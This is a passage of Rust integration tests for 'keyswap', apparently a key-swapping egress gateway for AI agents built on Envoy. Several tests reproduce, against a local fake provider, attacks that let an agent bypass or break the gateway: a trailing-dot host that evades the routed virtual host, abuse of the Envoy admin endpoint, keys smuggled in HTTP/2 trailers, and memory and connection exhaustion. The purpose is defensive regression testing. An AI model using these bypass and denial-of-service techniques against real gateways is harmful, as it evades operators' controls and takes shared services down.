            String::from_utf8_lossy(&v.stdout),
            String::from_utf8_lossy(&v.stderr)
        );
    }
}

/// The deployment's ConfigMap holds exactly the ADS bootstrap `keyswap envoy-config` prints with
/// the arguments in its header (so it never goes stale as the generator changes).
#[test]
fn the_deploy_configmap_is_the_generated_ads_bootstrap() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let cm = std::fs::read_to_string(root.join("manifests/deploy/envoy-configmap.yaml")).unwrap();
    let (_, body) = cm.split_once("  envoy.yaml: |\n").expect("data.envoy.yaml as a block scalar");
    let inlined: String = body.lines().map(|l| format!("{}\n", l.strip_prefix("    ").unwrap_or(l))).collect();
    let out = Command::new(env!("CARGO_BIN_EXE_keyswap"))
        .args(["envoy-config", "--config", "manifests/examples/echo-bot", "--gateway", "keyswap-system/egress"])
        .args(["--uds", "/run/keyswap/keyswap.sock", "--envoy-max-heap", "320Mi"])
        .current_dir(&root)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        inlined,
        String::from_utf8_lossy(&out.stdout),
        "manifests/deploy/envoy-configmap.yaml is stale: regenerate it with the command in its header"
    );
    assert!(
        cm.contains("--uds /run/keyswap/keyswap.sock --envoy-max-heap 320Mi"),
        "the header's command has other arguments"
    );
    // About 60 % of the Envoy container's memory limit.
    let deployment = std::fs::read_to_string(root.join("manifests/deploy/deployment.yaml")).unwrap();
    let envoy = deployment.split("- name: envoy\n          image:").nth(1).expect("the envoy container");
    assert!(
        envoy.contains("limits:\n              cpu: \"1\"\n              memory: 512Mi"),
        "Envoy's memory limit changed"
    );
}

#[test]
fn leaf_chains_to_the_gateway_ca_with_a_san_per_host() {
    let dir = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    std::fs::write(config.path().join("gateway.yaml"), gateway_config("deny-all", 10000, "")).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_keyswap"))
        .args(["certs", "--config"])
        .arg(config.path())
        .arg("--out")
        .arg(dir.path())
        .env("RUST_LOG", "debug")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let ca = dir.path().join("ca.crt");
    let leaf = dir.path().join("leaf.crt");
    let openssl = |args: &[&str]| {
        let o = Command::new("openssl").args(args).output().expect("openssl is installed (apt-get install -y openssl)");
        assert!(o.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let verify = openssl(&["verify", "-CAfile", ca.to_str().unwrap(), leaf.to_str().unwrap()]);
    assert!(verify.trim().ends_with(": OK"), "{verify}");
    // `certs` writes the agents' bundle too (as `dev` does): public CAs plus the gateway CA.
    let bundle = dir.path().join("ca-bundle.crt");
    let verify = openssl(&["verify", "-CAfile", bundle.to_str().unwrap(), leaf.to_str().unwrap()]);
    assert!(verify.trim().ends_with(": OK"), "{verify}");
    let pem = std::fs::read_to_string(&bundle).unwrap();
    assert!(pem.matches("BEGIN CERTIFICATE").count() > 10, "the public CAs are in the bundle");
    let text = openssl(&["x509", "-in", leaf.to_str().unwrap(), "-noout", "-ext", "subjectAltName,extendedKeyUsage"]);
    assert!(text.contains("DNS:api.anthropic.com") && text.contains("DNS:api.openai.com"), "{text}");
    assert!(text.contains("TLS Web Server Authentication"), "{text}");
    for line in std::fs::read_to_string(dir.path().join("ca.key")).unwrap().lines().filter(|l| !l.starts_with("-----"))
    {
        let all = String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
        assert!(!all.contains(line), "CA key printed");
    }
}

/// The virtual hosts of a static bootstrap's listeners.
fn static_vhosts(config: &serde_json::Value) -> impl Iterator<Item = &serde_json::Value> {
    config["static_resources"]["listeners"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|l| l["filter_chains"].as_array().into_iter().flatten())
        .flat_map(|c| c["filters"][0]["typed_config"]["route_config"]["virtual_hosts"].as_array().into_iter().flatten())
}

/// The deciding filters a virtual host runs (by their names in the chain), and the request body
/// mode the body-streaming one sends there.
fn deciding_filters(vhost: &serde_json::Value) -> (Vec<&'static str>, Option<String>) {
    use keyswap::envoy::{BODIES_FILTER, DECIDE_FILTER};
    let per = &vhost["typed_per_filter_config"];
    let on = |name: &str, by_default: bool| match per.get(name) {
        None => by_default,
        Some(c) => c["disabled"] != serde_json::json!(true),
    };
    let mut running = Vec::new();
    if on(DECIDE_FILTER, true) {
        running.push(DECIDE_FILTER);
    }
    if on(BODIES_FILTER, false) {
        running.push(BODIES_FILTER);
    }
    let mode = per[BODIES_FILTER]["overrides"]["processing_mode"]["request_body_mode"].as_str().map(str::to_owned);
    (running, mode)
}

/// Every virtual host of every generated configuration runs exactly one deciding filter: a host
/// whose response bodies keyswap reads on every request turns the body-streaming one on and the
/// other off in one map, and nothing turns both off (a request would then reach the provider
/// undecided: no key, but no budget and no policy either). The phases it fixes send what its
/// routes read: the request body (BUFFERED_PARTIAL: whole up to Envoy's buffer) for SigV4, a
/// budget on tokens or captured spans, none where only the response is read.
#[test]
fn every_virtual_host_runs_exactly_one_deciding_filter_with_the_phases_its_routes_need() {
    use keyswap::envoy::{BODIES_FILTER, DECIDE_FILTER};
    let gateway = gateway_config("deny-all", 10000, "").replace(
        "listeners: [{name: proxy, protocol: CONNECT, port: 10000}]",
        "listeners: [{name: proxy, protocol: CONNECT, port: 10000}, {name: tls, protocol: HTTPS, port: 10443, tls: {mode: Terminate}}]",
    );
    let bedrock = bedrock_sigv4("bedrock", "bedrock-runtime.us-east-1.amazonaws.com")
        + "---
apiVersion: keyswap.dev/v1alpha1
kind: AIProviderRoute
metadata: {name: azure}
spec:
  parentRefs: [{name: egress}]
  rules: [{matches: [{provider: azure-openai}]}]
";
    let budget = |parent: &str| {
        format!(
            "---\napiVersion: keyswap.dev/v1alpha1\nkind: TokenBudget\nmetadata: {{name: b}}\nspec:\n  parentRefs: [{parent}]\n  key: Gateway\n  window: Day\n  limits: {{totalTokens: 1000}}\n"
        )
    };
    let requests_only = "---\napiVersion: keyswap.dev/v1alpha1\nkind: TokenBudget\nmetadata: {name: r}\nspec:\n  parentRefs: [{kind: EgressGateway, name: egress}]\n  key: Gateway\n  window: Day\n  limits: {requests: 1000}\n";
    let scrub = gateway.replace("  rules:\n  - matches:", "  scrubResponseBodies: true\n  rules:\n  - matches:");
    const A: &str = "api.anthropic.com";
    const B: &str = "bedrock-runtime.us-east-1.amazonaws.com";
    const W: &str = "wildcard";
    // (case, manifests, keyswap's environment, --observe-response-bodies, the body-streaming
    // filter's request body mode by virtual host; hosts not named run the other deciding filter).
    type Case<'a> = (&'a str, String, &'a [(&'a str, &'a str)], bool, Vec<(&'a str, &'a str)>);
    const OFF: &[(&str, &str)] = &[];
    const ON: &[(&str, &str)] = &[("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:4318")];
    const RATIO: &[(&str, &str)] = &[
        ("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:4318"),
        ("OTEL_TRACES_SAMPLER", "parentbased_traceidratio"),
        ("OTEL_TRACES_SAMPLER_ARG", "0.1"),
    ];
    const RATIO_ONE: &[(&str, &str)] = &[
        ("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:4318"),
        ("OTEL_TRACES_SAMPLER", "traceidratio"),
        ("OTEL_TRACES_SAMPLER_ARG", "1"),
    ];
    const NEVER: &[(&str, &str)] =
        &[("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:4318"), ("OTEL_TRACES_SAMPLER", "always_off")];
    const PARENT_ONLY: &[(&str, &str)] =
        &[("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:4318"), ("OTEL_TRACES_SAMPLER", "parentbased_always_off")];
    let every = || {
        vec![
            (A, "BUFFERED_PARTIAL"),
            ("api.openai.com", "BUFFERED_PARTIAL"),
            (B, "BUFFERED_PARTIAL"),
            (W, "BUFFERED_PARTIAL"),
        ]
    };
    let cases: Vec<Case> = vec![
        ("nothing reads bodies", format!("{gateway}{bedrock}{requests_only}"), OFF, false, vec![]),
        ("spans read bodies", format!("{gateway}{bedrock}"), ON, false, every()),
        ("spans sampled at a ratio of 1", format!("{gateway}{bedrock}"), RATIO_ONE, false, every()),
        // Spans of a fraction (or of what agents mark sampled) ask for bodies per request: an
        // unsampled request costs no body messages.
        ("spans sampled at a ratio", format!("{gateway}{bedrock}"), RATIO, false, vec![]),
        ("spans only of sampled parents", format!("{gateway}{bedrock}"), PARENT_ONLY, false, vec![]),
        (
            "spans at a ratio and a budget on one route",
            format!("{gateway}{bedrock}{}", budget("{name: providers}")),
            RATIO,
            false,
            vec![(A, "BUFFERED_PARTIAL"), ("api.openai.com", "BUFFERED_PARTIAL")],
        ),
        // Fixed for scrubbing, the phases still send what a sampled span captures.
        (
            "spans at a ratio and scrubResponseBodies",
            format!("{scrub}{bedrock}"),
            RATIO,
            false,
            vec![(A, "BUFFERED_PARTIAL"), ("api.openai.com", "BUFFERED_PARTIAL")],
        ),
        (
            "no span sampled and scrubResponseBodies",
            format!("{scrub}{bedrock}"),
            NEVER,
            false,
            vec![(A, "NONE"), ("api.openai.com", "NONE")],
        ),
        (
            "a budget on one route",
            format!("{gateway}{bedrock}{}", budget("{name: providers}")),
            OFF,
            false,
            vec![(A, "BUFFERED_PARTIAL"), ("api.openai.com", "BUFFERED_PARTIAL")],
        ),
        (
            "a budget on the gateway",
            format!("{gateway}{bedrock}{}", budget("{kind: EgressGateway, name: egress}")),
            OFF,
            false,
            vec![
                (A, "BUFFERED_PARTIAL"),
                ("api.openai.com", "BUFFERED_PARTIAL"),
                (B, "BUFFERED_PARTIAL"),
                (W, "BUFFERED_PARTIAL"),
            ],
        ),
        ("scrubResponseBodies", format!("{scrub}{bedrock}"), OFF, false, vec![(A, "NONE"), ("api.openai.com", "NONE")]),
        ("observed instead", format!("{gateway}{bedrock}{}", budget("{name: providers}")), ON, true, vec![]),
        (
            "capture off",
            format!("{gateway}{bedrock}")
                .replace("  allow: []\n", "  allow: []\n  otlp: {captureBody: {maxBytes: 0}}\n"),
            ON,
            false,
            vec![(A, "NONE"), ("api.openai.com", "NONE"), (B, "BUFFERED_PARTIAL"), (W, "NONE")],
        ),
    ];
    for (case, manifests, env, observe, expected) in cases {
        assert!(!case.starts_with("capture") || manifests.contains("maxBytes: 0"), "{case}: {manifests}");
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("gateway.yaml"), &manifests).unwrap();
        let work = tempfile::tempdir().unwrap();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_keyswap"));
        cmd.arg("envoy-config").arg("--config").arg(dir.path()).arg("--static");
        cmd.arg("--certs").arg(work.path().join("certs")).arg("--uds").arg(work.path().join("k.sock"));
        for var in ["OTEL_EXPORTER_OTLP_ENDPOINT", "OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "OTEL_TRACES_SAMPLER"] {
            cmd.env_remove(var);
        }
        cmd.envs(env.iter().copied());
        if observe {
            cmd.arg("--observe-response-bodies");
        }
        let out = cmd.output().unwrap();
        assert!(out.status.success(), "{case}: {}", String::from_utf8_lossy(&out.stderr));
        let config: serde_json::Value = serde_yaml_ng::from_slice(&out.stdout).unwrap();
        let mut tls_vhosts = 0;
        for hcm in config["static_resources"]["listeners"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|l| l["filter_chains"].as_array().unwrap())
            .map(|c| &c["filters"][0]["typed_config"])
        {
            let chain: Vec<&serde_json::Value> = hcm["http_filters"].as_array().unwrap().iter().collect();
            let named = |n: &str| chain.iter().find(|f| f["name"] == n).copied();
            let Some(bodies) = named(BODIES_FILTER) else {
                // The proxy listener: the tunnel guard only, never turned off by a host.
                for vh in hcm["route_config"]["virtual_hosts"].as_array().unwrap() {
                    assert!(vh["typed_per_filter_config"].get(BODIES_FILTER).is_none(), "{case}: {vh}");
                }
                continue;
            };
            assert!(named(DECIDE_FILTER).is_some(), "{case}: a chain without the deciding filter: {hcm}");
            assert_eq!(bodies["disabled"], true, "{case}: the body-streaming filter must be off by default");
            let c = &bodies["typed_config"];
            assert_eq!(c["send_body_without_waiting_for_header_response"], true, "{case}");
            assert_eq!(c["failure_mode_allow"], false, "{case}: the body-streaming filter must fail closed");
            for vh in hcm["route_config"]["virtual_hosts"].as_array().unwrap() {
                tls_vhosts += 1;
                let name = vh["name"].as_str().unwrap();
                let (running, mode) = deciding_filters(vh);
                assert_eq!(running.len(), 1, "{case}: virtual host {name} runs {running:?}: {vh}");
                let want = expected.iter().find(|(h, _)| *h == name).map(|(_, m)| m.to_string());
                match &want {
                    Some(_) => assert_eq!(running, [BODIES_FILTER], "{case}: {name}: {vh}"),
                    None => assert_eq!(running, [DECIDE_FILTER], "{case}: {name}: {vh}"),
                }
                assert_eq!(mode, want, "{case}: {name}: request body mode");
            }
        }
        assert!(tls_vhosts > 0, "{case}: no TLS chain checked: {config}");
    }
}

/// A request body sent frame by frame through [`tunnel_h2`].
type Body = http_body_util::StreamBody<
    futures_util::stream::BoxStream<'static, Result<hyper::body::Frame<bytes::Bytes>, std::convert::Infallible>>,
>;

/// `keyswap dev` (`args`) in `work` with a token budget on the gateway, whose every request body
/// Envoy buffers for keyswap to read whole, in front of a fake api.openai.com.
async fn budgeted_dev(work: &std::path::Path, args: &[&str]) -> (Dev, FakeProvider) {
    let budget = "---\napiVersion: keyswap.dev/v1alpha1\nkind: TokenBudget\nmetadata: {name: b}\nspec:\n  parentRefs: [{kind: EgressGateway, name: egress}]\n  key: Gateway\n  window: Day\n  limits: {totalTokens: 100000000}\n";
    openai_dev(work, "", budget, args).await
}

/// `keyswap dev` (`args`) in `work` on a deny-all gateway allowing `allow`, and `extra`
/// manifests, in front of a fake api.openai.com.
async fn openai_dev(work: &std::path::Path, allow: &str, extra: &str, args: &[&str]) -> (Dev, FakeProvider) {
    openai_dev_with(work, gateway_config("deny-all", free_port(), allow) + extra, args).await
}

/// `keyswap dev` (`args`) in `work` on the manifests `text`, in front of a fake api.openai.com.
async fn openai_dev_with(work: &std::path::Path, text: String, args: &[&str]) -> (Dev, FakeProvider) {
    let config = work.join("config");
    std::fs::create_dir(&config).unwrap();
    std::fs::write(config.join("gateway.yaml"), text).unwrap();
    let (fake, provider_ca) = FakeProvider::start_tls(&["api.openai.com"], work).await;
    fake.set_accepts("api.openai.com", vec![Accept::Header("authorization", format!("Bearer {ANTHROPIC_KEY}"))]);
    let upstreams = [format!("api.openai.com={},ca={}", fake.addr, provider_ca.display())];
    let dev = tokio::task::block_in_place(|| start_dev_with(&config, work, &upstreams, &[], args));
    (dev, fake)
}

/// A Chat Completions call by curl through `dev`: curl's exit code, the body and status line
/// (`…\n200`), and its errors.
fn curl_openai(dev: &Dev) -> (i32, String, String) {
    tokio::task::block_in_place(|| {
        curl(dev, &["-w", "\n%{http_code}", "-d", "{}", "https://api.openai.com/v1/chat/completions"])
    })
}

/// The pid of `dev`'s Envoy.
fn dev_envoy_pid(dev: &Dev) -> String {
    // Envoy is the child of `keyswap dev` (of whichever of its threads started it).
    let dev_pid = dev.proc.child.id();
    let tasks = std::fs::read_dir(format!("/proc/{dev_pid}/task")).unwrap();
    let children: Vec<String> = tasks
        .filter_map(|t| std::fs::read_to_string(t.unwrap().path().join("children")).ok())
        .flat_map(|c| c.split_whitespace().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    let is_envoy = |pid: &&String| {
        std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|e| e.file_name().is_some_and(|n| n == "envoy"))
    };
    children.iter().find(is_envoy).unwrap_or_else(|| panic!("no Envoy among {children:?}")).clone()
}

/// The most memory `dev`'s Envoy has had resident (`VmHWM`), in MiB.
fn envoy_peak_resident_mib(dev: &Dev) -> u64 {
    let pid = dev_envoy_pid(dev);
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let kib: u64 =
        status.lines().find_map(|l| l.strip_prefix("VmHWM:")).unwrap().trim().trim_end_matches(" kB").parse().unwrap();
    kib >> 10
}

/// A Chat Completions POST whose body is `frames`.
fn chat_post(
    frames: futures_util::stream::BoxStream<
        'static,
        Result<hyper::body::Frame<bytes::Bytes>, std::convert::Infallible>,
    >,
) -> hyper::Request<Body> {
    hyper::Request::post("https://api.openai.com/v1/chat/completions")
        .header("content-type", "application/json")
        .body(http_body_util::StreamBody::new(frames))
        .unwrap()
}

/// The attack: on an allow-all gateway, `CONNECT api.openai.com.:443` missed Envoy's routed
/// virtual host (exact match) and took the default one, whose tunnel the guard allowed: a raw
/// tunnel to the provider, past budgets, spans and header stripping, for an agent with a key of
/// its own. Envoy now strips the trailing dot and terminates it as the routed host it is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_routed_host_spelled_with_a_trailing_dot_is_terminated_not_tunnelled() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let work = tempfile::tempdir().unwrap();
    let (dev, fake) = openai_dev_with(work.path(), gateway_config("allow-all", free_port(), ""), &["dev"]).await;
    let tls = try_tunnel_tls_as(&dev, "api.openai.com.", "api.openai.com", b"http/1.1").await;
    let mut tls = tls.unwrap_or_else(|e| panic!("not terminated by the gateway: {e}\n{}", dev.proc.output()));
    let request = "POST /v1/chat/completions HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer sk-agents-own\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}";
    tls.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let _ = tls.read_to_end(&mut answer).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    // keyswap decided on it: the agent's key was replaced by the gateway's.
    let seen = fake.seen().pop().expect("the request reached the provider");
    assert_eq!(seen.header_str("authorization"), Some(format!("Bearer {ANTHROPIC_KEY}")));
}

/// The TCP ports a process listens on (`/proc/net/tcp` and `tcp6` entries in state LISTEN whose
/// socket the process holds).
fn listening_tcp_ports(pid: &str) -> Vec<u16> {
    let inodes: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .filter_map(|fd| std::fs::read_link(fd.ok()?.path()).ok())
        .filter_map(|l| l.to_str()?.strip_prefix("socket:[")?.strip_suffix(']').map(str::to_owned))
        .collect();
    let mut ports = Vec::new();
    for table in ["/proc/net/tcp", "/proc/net/tcp6"] {
        for line in std::fs::read_to_string(table).unwrap_or_default().lines().skip(1) {
            let f: Vec<&str> = line.split_whitespace().collect();
            // local_address is ADDR:PORT in hex; st 0A is LISTEN; the inode is the tenth field.
            if f.len() > 9 && f[3] == "0A" && inodes.iter().any(|i| i == f[9]) {
                ports.push(u16::from_str_radix(f[1].rsplit(':').next().unwrap(), 16).unwrap());
            }
        }
    }
    ports.sort();
    ports.dedup();
    ports
}

/// The attack: a local process beside `keyswap dev` (an agent in a sandbox that shares the
/// machine's loopback) opens Envoy's admin interface, unauthenticated: `POST /logging?level=debug`
/// puts the real keys Envoy sends upstream in its log, `/quitquitquit` stops the gateway,
/// `/runtime_modify` changes its behaviour. It listened on 127.0.0.1:9901. Now it is a Unix socket
/// in the working directory only its owner can open, and Envoy listens on no TCP port but the
/// proxy's; `--admin-port` puts it back on loopback for whoever wants that.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_local_process_cannot_reach_the_dev_gateways_envoy_admin() {
    use std::os::unix::fs::PermissionsExt as _;
    let work = tempfile::tempdir().unwrap();
    let (dev, _fake) = openai_dev(work.path(), "", "", &["dev"]).await;
    let admin = std::fs::read_to_string(work.path().join("envoy-admin.txt")).unwrap();
    assert!(admin.trim().ends_with("/envoy-admin.sock"), "Envoy's admin is at {admin}");
    let mode = std::fs::metadata(admin.trim()).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600, "the admin socket is open to others: {mode:o}");
    // Its owner still reads it.
    let (status, body) = envoy_admin(work.path(), "/ready").await;
    assert_eq!((status, body.trim()), (200, "LIVE"));
    let proxy: u16 = dev.env["HTTPS_PROXY"].rsplit(':').next().unwrap().parse().unwrap();
    assert_eq!(listening_tcp_ports(&dev_envoy_pid(&dev)), [proxy], "Envoy listens on TCP beyond its proxy port");
}

/// The attack: credentials and scope headers sent as HTTP/2 request trailers, past the strip
/// of the request's headers. Envoy forwards request trailers to an HTTP/2 upstream, and a server
/// that merges trailers into its headers would read the agent's key or organization; keyswap
/// strips from the trailers every name it strips from the headers and keeps the rest. Where a
/// budget (or SigV4) needs the body whole, a body that ends with trailers is refused (413) and
/// nothing reaches the provider.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_and_scope_headers_in_request_trailers_never_reach_the_provider() {
    use futures_util::StreamExt as _;
    // A route that reads no body (phases asked per request), one whose response bodies are
    // scrubbed (phases fixed by the route), one whose budget reads the request body whole.
    for (case, budgeted) in [("plain", false), ("scrubbing", false), ("budgeted", true)] {
        let work = tempfile::tempdir().unwrap();
        let (dev, fake) = match case {
            "plain" => openai_dev(work.path(), "", "", &["dev"]).await,
            "scrubbing" => {
                let text = gateway_config("deny-all", free_port(), "")
                    .replace("  rules:\n", "  scrubResponseBodies: true\n  rules:\n");
                assert!(text.contains("scrubResponseBodies"));
                openai_dev_with(work.path(), text, &["dev"]).await
            }
            _ => budgeted_dev(work.path(), &["dev"]).await,
        };
        let mut sender = tunnel_h2::<Body>(&dev, "api.openai.com").await;
        // A request without trailers costs no trailers message (Envoy sends one only for some).
        let plain = futures_util::stream::iter([Ok(hyper::body::Frame::data(bytes::Bytes::from_static(b"{}")))]);
        sender.ready().await.unwrap();
        let resp = sender.send_request(chat_post(plain.boxed())).await.unwrap();
        assert_eq!(resp.status().as_u16(), 200, "{case}");
        let trailers_phase = |m: &str| metric(m, "keyswap_extproc_phase_duration_seconds_count{phase=\"trailers\"}");
        assert_eq!(trailers_phase(&scrape(metrics_port(&dev), "/metrics").await.1), 0.0, "{case}");
        let reached = fake.seen().len();
        let mut trailers = hyper::HeaderMap::new();
        for (name, value) in [
            ("authorization", "Bearer sk-stolen-trailer"),
            ("x-api-key", "sk-stolen-trailer"),
            ("api_key", "sk-stolen-trailer"),
            ("openai-organization", "org-chosen-by-agent"),
            ("openai_project", "proj-chosen-by-agent"),
            ("x-clean-trailer", "kept"),
        ] {
            trailers.insert(hyper::header::HeaderName::from_static(name), value.parse().unwrap());
        }
        let body = bytes::Bytes::from_static(br#"{"model":"gpt-4o","max_tokens":8,"messages":[]}"#);
        let frames = [Ok(hyper::body::Frame::data(body)), Ok(hyper::body::Frame::trailers(trailers))];
        let req = chat_post(futures_util::stream::iter(frames).boxed());
        sender.ready().await.unwrap();
        let resp = tokio::time::timeout(Duration::from_secs(20), sender.send_request(req)).await.unwrap().unwrap();
        if budgeted {
            assert_eq!(resp.status().as_u16(), 413);
            assert_eq!(fake.seen().len(), reached, "a refused request reached the provider");
            continue;
        }
        assert_eq!(resp.status().as_u16(), 200, "{case}");
        let seen = fake.seen().pop().expect("the request reached the provider");
        // The trailers reached it (so the checks below can fail), the clean one unchanged.
        assert!(
            seen.trailers.iter().any(|(k, v)| k == "x-clean-trailer" && v == b"kept"),
            "{case}: {:?}",
            seen.trailers
        );
        let got = seen.everything();
        for stripped in ["sk-stolen-trailer", "org-chosen-by-agent", "proj-chosen-by-agent"] {
            assert!(!got.contains(stripped), "{case}: the agent's {stripped} reached the provider:\n{got}");
        }
        assert_eq!(seen.header_str("authorization"), Some(format!("Bearer {ANTHROPIC_KEY}")));
        // The one trailers message was this request's (so the count of 0 above could fail).
        assert_eq!(trailers_phase(&scrape(metrics_port(&dev), "/metrics").await.1), 1.0, "{case}");
    }
}

/// The attack: a request body past the buffer Envoy keeps for a body keyswap reads whole (a
/// token budget, SigV4), sent over HTTP/2. Envoy buffers an HTTP/2 request up to its stream's
/// flow-control window, 256 MiB by default, not the listener's buffer limit: a 40 MiB body went to
/// keyswap in one message where HTTP/1.1 got 413. The generated window is the buffer limit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_past_envoys_buffer_is_refused_over_http2_as_over_http1() {
    use futures_util::StreamExt as _;
    let work = tempfile::tempdir().unwrap();
    let (dev, fake) = budgeted_dev(work.path(), &["dev"]).await;
    let mut sender = tunnel_h2::<Body>(&dev, "api.openai.com").await;
    for (mib, expected) in [(8, 200), (12, 413), (40, 413)] {
        let body = bytes::Bytes::from(vec![b' '; mib << 20]);
        let req = chat_post(futures_util::stream::iter([Ok(hyper::body::Frame::data(body))]).boxed());
        sender.ready().await.unwrap();
        let resp = tokio::time::timeout(Duration::from_secs(20), sender.send_request(req)).await.unwrap().unwrap();
        assert_eq!(resp.status().as_u16(), expected, "a body of {mib} MiB");
    }
    assert_eq!(fake.seen().len(), 1, "a body past the buffer reached the provider");
}

/// The attack: one agent opens many requests whose bodies it sends almost whole (8 MiB, under
/// the buffer a token budget or SigV4 needs) and never finishes. Envoy holds every such body in
/// memory until it ends: 60 of them took its heap from 8 MiB to 500 MiB, past the memory limit of
/// its container, and a killed Envoy is a gateway down for every agent. The generated bootstrap
/// has Envoy's overload manager reset the streams holding the most memory as its heap nears
/// `--envoy-max-heap`.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_agent_filling_envoys_memory_with_unfinished_uploads_is_reset_before_the_gateway_falls() {
    use futures_util::StreamExt as _;
    let work = tempfile::tempdir().unwrap();
    let (dev, _fake) = budgeted_dev(work.path(), &["dev", "--envoy-max-heap", "160Mi"]).await;

    // 120 uploads of 8 MiB over four connections: 960 MiB if Envoy kept them.
    let chunk = bytes::Bytes::from(vec![b' '; 64 * 1024]);
    let mut held = Vec::new();
    for _ in 0..4 {
        let mut sender = tunnel_h2::<Body>(&dev, "api.openai.com").await;
        for _ in 0..30 {
            // How many of its 128 chunks the agent has handed over: all of them, once Envoy has
            // taken the body (or the stream is gone).
            let sent = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
            let counted = sent.clone();
            let data = futures_util::stream::iter(vec![chunk.clone(); 128]).map(move |c| {
                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                Ok(hyper::body::Frame::data(c))
            });
            let req = chat_post(data.chain(futures_util::stream::pending()).boxed());
            sender.ready().await.unwrap();
            held.push((sent, tokio::spawn(sender.send_request(req))));
        }
    }
    // Every upload either sent whole (and held) or reset. Envoy resets the largest first as its
    // heap passes 80 % of the limit, until it is back under: some may stay, within the limit.
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let whole = |sent: &std::sync::atomic::AtomicUsize| sent.load(std::sync::atomic::Ordering::SeqCst) >= 128;
    while held.iter().any(|(sent, h)| !h.is_finished() && !whole(sent)) {
        assert!(std::time::Instant::now() < deadline, "uploads neither taken nor reset after 60 s");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let mut reset = 0;
    for (_, h) in held.iter_mut().filter(|(_, h)| h.is_finished()) {
        match h.await.unwrap() {
            Err(err) => assert!(format!("{err:?}").contains("Reset("), "{err:?}"),
            // An upload that opened once the heap passed 98 % is answered 503 at once, not held
            // (the order depends on how fast Envoy's heap grew on this run).
            Ok(resp) => assert_eq!(resp.status(), 503, "an upload that never ended was answered"),
        }
        reset += 1;
    }
    assert!(reset >= 60, "only {reset} of 120 uploads of 8 MiB were reset or refused under a 160 MiB heap");
    assert!(envoy_stat(work.path(), "envoy.overload_actions.reset_high_memory_stream.count").await >= 1);
    // The most Envoy ever had resident: its heap's limit, what arrives between two of the overload
    // manager's looks (50 ms apart), and Envoy's code. Without the limit it passed 900 MiB.
    let peak = envoy_peak_resident_mib(&dev);
    eprintln!("{reset} of 120 uploads reset or refused; Envoy's resident peak {peak} MiB");
    assert!(peak < 400, "Envoy's resident memory reached {peak} MiB");

    // The gateway takes requests again as soon as the memory is freed.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while envoy_stat(work.path(), "overload.envoy.overload_actions.stop_accepting_requests.active").await > 0 {
        assert!(std::time::Instant::now() < deadline, "Envoy still refuses requests 10 s after the attack");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (code, out, err) = curl_openai(&dev);
    assert!(out.ends_with("200"), "another request after the attack: {code} {out} {err}");
}

/// `keyswap dev` for OpenAI whose Envoy takes at most 6 connections, its proxy port, and one
/// request through it before the attack.
async fn six_connection_dev(work: &std::path::Path) -> (Dev, FakeProvider, u16) {
    let (dev, fake) = openai_dev(work, "", "", &["dev", "--envoy-max-connections", "6"]).await;
    let port: u16 = dev.env["HTTPS_PROXY"].rsplit(':').next().unwrap().parse().unwrap();
    let (_, out, err) = curl_openai(&dev);
    assert!(out.ends_with("200"), "before the attack: {out} {err}");
    (dev, fake, port)
}

/// The attack: an agent opening connections and leaving them open (each costs Envoy a file
/// descriptor, buffers and TLS state) until the gateway has none left for anyone. Past
/// `--envoy-max-connections`, all listeners together, Envoy closes a new connection at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_past_the_gateways_limit_are_closed_at_once() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let work = tempfile::tempdir().unwrap();
    let (dev, _fake, port) = six_connection_dev(work.path()).await;

    let mut held = Vec::new();
    let mut closed = None;
    for n in 0..10 {
        let mut c = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        c.write_all(b"CONNECT api.openai.com:443 HTTP/1.1\r\n").await.unwrap();
        let mut byte = [0u8];
        match tokio::time::timeout(Duration::from_millis(500), c.read(&mut byte)).await {
            Ok(Ok(0)) | Ok(Err(_)) => {
                closed = Some(n);
                break;
            }
            Ok(Ok(_)) => panic!("Envoy answered half a request line"),
            Err(_) => held.push(c),
        }
    }
